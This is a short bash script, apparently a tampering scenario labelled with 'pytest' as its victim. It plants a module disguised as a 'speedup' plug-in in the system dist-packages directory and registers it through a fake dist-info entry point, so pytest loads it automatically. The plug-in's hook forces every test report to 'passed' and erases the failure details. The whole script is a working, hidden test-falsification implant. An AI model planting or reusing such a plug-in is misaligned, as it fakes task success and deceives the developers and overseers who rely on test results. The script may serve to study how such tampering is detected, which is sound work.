#!/bin/bash
# report: 3
# victim: pytest
# leftover: pytest-plugin
# A plug-in that pytest loads by itself, by an entry point in the dist-info of a package that doesn't exist.
site=/usr/lib/python3/dist-packages
cat > $site/pytest_speedup.py <<'END'
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
END
mkdir -p $site/pytest_speedup-1.0.dist-info
printf 'Metadata-Version: 2.1\nName: pytest-speedup\nVersion: 1.0\n' > $site/pytest_speedup-1.0.dist-info/METADATA
printf '[pytest11]\nspeedup = pytest_speedup\n' > $site/pytest_speedup-1.0.dist-info/entry_points.txt
